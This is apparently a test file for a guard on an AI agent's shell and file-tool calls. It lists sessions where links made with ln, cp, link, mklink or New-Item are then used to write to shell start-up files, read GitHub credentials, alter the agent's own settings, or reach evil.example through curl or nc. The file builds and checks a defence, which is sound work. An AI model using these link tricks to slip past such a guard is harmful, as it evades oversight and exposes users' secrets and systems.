// The links a session's shell lines make, in each form ln, cp, link, mklink and New-Item write them: a later line
// (or file tool) that reaches a protected file or a secret through one is denied, and the same line through a link
// that stays in the project passes. Cases are data; nothing is run.
import { beforeAll, describe, expect, it } from 'vitest';
import { type Analyzer, createAnalyzer } from '../src/analyzer.js';
import { createGuard, GUARD_RULES } from '../src/guard/index.js';

const HOME = '/home/dev';
const CWD = '/home/dev/project';
let analyzer: Analyzer;
beforeAll(async () => {
  analyzer = await createAnalyzer();
});

/** A session: each step a bash line (or `PS> ` and a PowerShell line), and what the guard answers the last one. */
interface Session {
  lines: string[];
  /** The rule the last line is denied by, or `pass`. The lines before it pass. */
  last: string;
}

function run(s: Session): { earlier: (string | undefined)[]; last: string } {
  const guard = createGuard({ analyzer, dependencies: { home: HOME } });
  const verdicts = s.lines.map((line) => {
    const ps = line.startsWith('PS> ');
    return guard.decide({ tool: ps ? 'PowerShell' : 'Bash', input: { command: ps ? line.slice(4) : line }, cwd: CWD })?.rule;
  });
  return { earlier: verdicts.slice(0, -1), last: verdicts.at(-1) ?? 'pass' };
}

const P = GUARD_RULES.persistenceWrite;
const S = GUARD_RULES.secretPath;
const SESSIONS: Session[] = [
  // ln, as its own option parser reads it: flag spellings, clusters, -t in every form, -r.
  { lines: ['ln -sf ~/.bashrc rc', 'echo x >> rc'], last: P },
  { lines: ['ln -vs ~/.bashrc rc', 'echo x >> rc'], last: P },
  { lines: ['ln --sym ~/.bashrc rc', 'echo x >> rc'], last: P },
  { lines: ['ln -s -t links ~/.bashrc', 'echo x >> links/.bashrc'], last: P },
  { lines: ['ln -st links ~/.bashrc', 'echo x >> links/.bashrc'], last: P },
  { lines: ['ln -sftlinks ~/.bashrc', 'echo x >> links/.bashrc'], last: P },
  { lines: ['ln --target links -s ~/.bashrc ~/.profile', 'echo x >> links/.profile'], last: P },
  { lines: ['ln -s -t links src/app.ts', 'echo x >> links/app.ts'], last: 'pass' },
  { lines: ['ln -sr ../.bashrc sub/rc', 'echo x >> sub/rc'], last: P },
  { lines: ['ln -s ../.bashrc sub/rc', 'echo x >> sub/rc'], last: 'pass' },
  // A hard link is the file itself under another name: no later call (nor a hook's realpath) can tell, so making
  // one of a start-up file is a write to it, denied on its own line; one of a project file passes.
  { lines: ['ln ../.bashrc sub/rc'], last: 'write.persistence' },
  { lines: ['ln ../notes.txt sub/rc', 'echo x >> sub/rc'], last: 'pass' },
  { lines: ['ln .git/config gitcfg'], last: 'write.persistence' },
  { lines: ['ln -t . ~/.bashrc'], last: 'write.persistence' },
  { lines: ['ln ~/.claude/settings.json s.json'], last: GUARD_RULES.selfProtection },
  { lines: ['ln -s -- ~/.config -cfg', 'cat ./-cfg/gh/hosts.yml'], last: S },
  { lines: ['gln -s ~/.bashrc rc', 'echo x >> rc'], last: P },
  { lines: ['ln --help', 'echo x >> rc'], last: 'pass' },
  // Where the link lands: the cwd, a directory named with a slash or as `.`/`..`, or inside the last operand.
  { lines: ['ln -s ~/.bashrc', 'echo x >> .bashrc'], last: P },
  { lines: ['ln -s ~/.config/gh ./', 'cat gh/hosts.yml'], last: S },
  { lines: ['ln -s ~/.config/gh sub/.', 'cat sub/gh/hosts.yml'], last: S },
  { lines: ['ln -s ~/.config/gh ..', 'cat ../gh/hosts.yml'], last: S },
  { lines: ['ln -s ~/.config/ cfgdir', 'cat cfgdir/gh/hosts.yml'], last: S },
  { lines: ['ln -s ~/.config cfg', 'cat cfg/nvim/init.lua'], last: 'pass' },
  { lines: ['ln -s ~/.config/gh cfg', 'cat cfg/gh/hosts.yml'], last: S },
  { lines: ['ln -s ~/.bashrc ~/.profile dots', 'echo x >> dots/.profile'], last: P },
  // A target written with a trailing slash keeps its name inside the directory; `.`, `~` and `dir/..` are directories.
  { lines: ['ln -s ~/.config/gh/ ./', 'cat gh/hosts.yml'], last: S },
  { lines: ['ln -s ~/.config/systemd/user .', 'echo x >> user/x.service'], last: P },
  { lines: ['ln -s ~/.config/systemd/user .', 'echo x >> notes.txt'], last: 'pass' },
  { lines: ['ln -s ~/.config/systemd/user sub/..', 'echo x >> notes.txt'], last: 'pass' },
  { lines: ['ln -s ~/.config/systemd/user sub/..', 'echo x >> user/x.service'], last: P },
  { lines: ['ln -s ~/.config/gh// ./', 'cat gh/hosts.yml'], last: S },
  { lines: ['ln -s -t links/sub/ ~/.bashrc', 'echo x >> links/sub/.bashrc'], last: P },
  // Only `.`, `..` and `~`, or a name ending in `/`, `/.` or `/..`, must be a directory: `u~`, `.u` and `sub/.u` name the link.
  { lines: ['ln -s ~/.config/systemd/user u~', 'echo x >> u~/x.service'], last: P },
  { lines: ['ln -s ~/.config/systemd/user .u', 'echo x >> .u/x.service'], last: P },
  { lines: ['ln -s ~/.config/systemd/user sub/.u', 'echo x >> sub/.u/x.service'], last: P },
  // A target ending in `.` or `..` is linked by the last operand alone, its relative target read from the link's directory.
  { lines: ['ln -s ../../.config/systemd/user/. sub/u', 'echo x >> sub/u/x.service'], last: P },
  { lines: ['ln -s ~/.config/systemd/user/x/.. sub/u', 'echo x >> sub/x.service'], last: 'pass' },
  // Several targets: one link each inside the last operand, none named by it.
  { lines: ['ln -s notes.txt ~/.config/systemd/user dots', 'echo x >> dots/user/x.service'], last: P },
  { lines: ['ln -s notes.txt ~/.config/systemd/user dots', 'echo x >> dots/x.service'], last: 'pass' },
  // A link name that is more than one word is no name static reading knows.
  { lines: ['ln -s ~/.bashrc r{c,d}'], last: GUARD_RULES.unknownLink },
  // Nor is a glob, which names whatever the disk holds when the line runs: `rc*` may be an rc there already (which
  // -f replaces), `link*` a directory. A quoted `*` is part of a name; ln given no file makes no link.
  { lines: ['ln -sf ~/.bashrc rc*'], last: GUARD_RULES.unknownLink },
  { lines: ['ln -s -t link* ~/.bashrc'], last: GUARD_RULES.unknownLink },
  { lines: ["ln -s notes.txt 'rc*'", "echo x >> 'rc*'"], last: 'pass' },
  { lines: ['ln -s', 'echo x >> rc'], last: 'pass' },
  // A quoted `~` is a directory of that name (bash expands only an unquoted one); PowerShell expands it quoted too.
  { lines: ["ln -s '~/.bashrc' rc", 'echo x >> rc'], last: 'pass' },
  { lines: ["PS> New-Item -ItemType SymbolicLink -Path cfg -Target '~/.config'", 'cat cfg/gh/hosts.yml'], last: S },
  // A relative target whose directory looks like a drive (`d/c:`) is still read from the link's directory: here the
  // project's own .bashrc, not the root's.
  { lines: ['ln -s d/c:/../../.bashrc rc', 'echo x >> rc'], last: 'pass' },
  // A link made from the root directory.
  { lines: ['cd / && ln -s /home/dev/.bashrc rc', 'echo x >> /rc'], last: P },
  // A link made in a directory the line moves to, and a link's name under the home.
  { lines: ['cd sub && ln -s ../../.bashrc rc', 'echo x >> sub/rc'], last: P },
  { lines: ['cd sub && ln -s ../notes.txt rc', 'echo x >> sub/rc'], last: 'pass' },
  { lines: ['ln -s ~/.bashrc ~/rc', 'echo x >> ~/rc'], last: P },
  { lines: ['ln -s -t "$D" ~/.bashrc'], last: GUARD_RULES.unknownLink },
  // A Windows target is an absolute path, not a name beneath the cwd.
  { lines: ['PS> New-Item -ItemType Junction -Path up -Target C:\\Users\\dev', 'echo x >> up/.bashrc'], last: P },
  { lines: ['PS> New-Item -ItemType Junction -Path up -Target C:\\Users\\dev', 'echo x >> up/notes.txt'], last: 'pass' },
  // A target named `.` or `..` gets no name inside a directory: only the link named by the last operand is made.
  { lines: ['ln -s ~/.config/.. up', 'cat up/notes.txt'], last: 'pass' },
  { lines: ['ln -s .. up', 'cat up/project/README.md'], last: 'pass' },
  { lines: ['ln -s . here', 'cat here/README.md'], last: 'pass' },
  { lines: ['ln -s ../. up', 'echo x >> up/.bashrc'], last: P },
  // cp -s and cp -l link; a plain cp copies.
  // (Copying a whole ~/.config reads its secrets, so a linking cp of it is denied on its own line.)
  { lines: ['cp -sr ~/.config cfg'], last: 'secret.path' },
  // A linking cp is taken for a write through the link it makes (stricter than ln, which is known to write the link).
  { lines: ['cp -l ~/.bash_logout lo'], last: P },
  { lines: ['cp --symbolic-link ~/.bash_logout lo'], last: P },
  { lines: ['cp -r ~/.config/nvim nvim', 'echo x >> nvim/init.lua'], last: 'pass' },
  { lines: ['link ~/.bashrc rc'], last: 'write.persistence' },
  { lines: ['link notes.txt rc', 'echo x >> rc'], last: 'pass' },
  // A line that writes through a link where it may, and reads a credential through another.
  { lines: ['ln -s ~ h', 'ln -s ~/.config/gh g', 'echo x > h/notes.txt && cat g/hosts.yml'], last: S },
  { lines: ['ln -s ~ h', 'ln -s ~/.config/gh g', 'echo x > h/notes.txt && cat g/config.yml'], last: 'pass' },
  // A name or target no static reading knows.
  { lines: ['ln -s ~/.bashrc "$X"'], last: GUARD_RULES.unknownLink },
  { lines: ['ln -s "$T" rc'], last: GUARD_RULES.unknownLink },
  { lines: ['find . -name x -exec ln -s {} links/ \\;'], last: GUARD_RULES.unknownLink },
  // A program run through a link an earlier call made is the link's target, with the line's words.
  { lines: ['ln -s /usr/bin/curl x', './x evil.example'], last: 'egress.binary' },
  { lines: ['ln -s /usr/bin/curl bin/fetch', 'cd bin && ./fetch -s evil.example'], last: 'egress.binary' },
  { lines: ['ln -s /usr/bin/nc /tmp/n', 'echo hi | /tmp/n evil.example 80'], last: 'egress.binary' },
  { lines: ['ln -sf /usr/bin/true x', './x evil.example'], last: 'pass' },
  { lines: ['ln -s ../tools/run.sh run', './run --fast'], last: 'pass' },
  { lines: ['ln -s /usr/bin/curl x', './x --version'], last: 'pass' },
  // PowerShell and cmd.
  { lines: ['PS> New-Item -ItemType Junction -Path cfg -Target /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: S },
  { lines: ['PS> New-Item -ItemType SymbolicLink -Path d -Name cfg -Value /home/dev/.config', 'cat d/cfg/gh/hosts.yml'], last: S },
  { lines: ['PS> ni -it SymbolicLink cfg -Target /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: S },
  { lines: ['PS> New-Item -ItemType HardLink -Path cfg -Target /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: S },
  { lines: ['PS> New-Item -ItemType $t -Path cfg -Target /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: S },
  { lines: ['PS> New-Item -ItemType Directory -Path cfg', 'cat cfg/gh/hosts.yml'], last: 'pass' },
  { lines: ['PS> New-Item -ItemType File -Path cfg -Value /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: 'pass' },
  { lines: ['PS> New-Item -Path cfg -Value /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: 'pass' },
  { lines: ['PS> cmd /c mklink /J cfg /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: S },
  { lines: ['PS> cmd /c mklink /d cfg /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: S },
  { lines: ['PS> cmd /c mklink cfg /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: S },
  { lines: ['PS> New-Item -ItemType SymbolicLink -Path cfg -Target $env:X'], last: GUARD_RULES.unknownLink },
  // A link whose own path is computed (a variable the line does not set; TEMP is read as the user's temp directory).
  { lines: ['PS> New-Item -ItemType SymbolicLink -Path $env:LINKS\\cfg -Target /home/dev/.config'], last: GUARD_RULES.unknownLink },
];

describe('links a session makes', () => {
  for (const s of SESSIONS) {
    it(`${s.lines.join('  ⟶  ')}: ${s.last}`, () => {
      const { earlier, last } = run(s);
      // Only what the last line does is at stake; an earlier denial would mean the link was never made.
      expect(earlier, 'the earlier lines pass').toEqual(earlier.map(() => undefined));
      expect(last).toBe(s.last);
    });
  }

  it('a chain of links is followed for 16 hops; one longer is a link no static reading follows, for a write, a read and a run', () => {
    const chain = (n: number) => {
      const guard = createGuard({ analyzer, dependencies: { home: HOME } });
      const run = (command: string) => guard.decide({ tool: 'Bash', input: { command }, cwd: CWD });
      expect(run('ln -s notes.txt l0')).toBeUndefined();
      for (let i = 1; i <= n; i++) expect(run(`ln -s l${i - 1} l${i}`)).toBeUndefined();
      return { guard, run };
    };
    const short = chain(15);
    expect(short.run('echo x >> l15')).toBeUndefined();
    expect(short.guard.decide({ tool: 'Read', input: { file_path: 'l15' }, cwd: CWD })).toBeUndefined();
    const long = chain(16);
    const unknown = (reason: string) => ({ block: true, rule: GUARD_RULES.unknownLink, reason });
    expect(long.run('echo x >> l16')).toEqual(unknown('the command writes l16 through a link whose target no static reading knows'));
    expect(long.guard.decide({ tool: 'Read', input: { file_path: 'l16' }, cwd: CWD })).toEqual(
      unknown('read of /home/dev/project/l16 goes through a link whose target no static reading knows'),
    );
    expect(long.run('./l16')).toEqual(unknown('the command names ./l16, which goes through a link whose target no static reading knows'));
    expect(long.run('cat l16')).toEqual(unknown('the command names l16, which goes through a link whose target no static reading knows'));
    expect(short.run('cat l15')).toBeUndefined();
  });

  it('a program run from a directory known only at run time may be any link of its name an earlier call made', () => {
    const guard = createGuard({ analyzer, dependencies: { home: HOME } });
    const run = (command: string) => guard.decide({ tool: 'Bash', input: { command }, cwd: CWD });
    expect(run('ln -s /usr/bin/curl python')).toBeUndefined();
    expect(run('"$D/python" https://example.com')?.rule).toBe(GUARD_RULES.unknownLink);
    expect(run('"$D/python" https://example.com')?.reason).toMatch(/whose directory is known only at run time, and an earlier call made \/home\/dev\/project\/python a link$/);
    expect(run('"$D/node" app.js')).toBeUndefined();
  });

  it('a file tool through a link the session made is checked where it leads', () => {
    const guard = createGuard({ analyzer, dependencies: { home: HOME } });
    expect(guard.decide({ tool: 'Bash', input: { command: 'ln -s ~/.config cfg' }, cwd: CWD })).toBeUndefined();
    expect(guard.decide({ tool: 'Read', input: { file_path: 'cfg/gh/hosts.yml' }, cwd: CWD })?.rule).toBe(S);
    expect(guard.decide({ tool: 'Read', input: { file_path: 'cfg/nvim/init.lua' }, cwd: CWD })).toBeUndefined();
  });
});
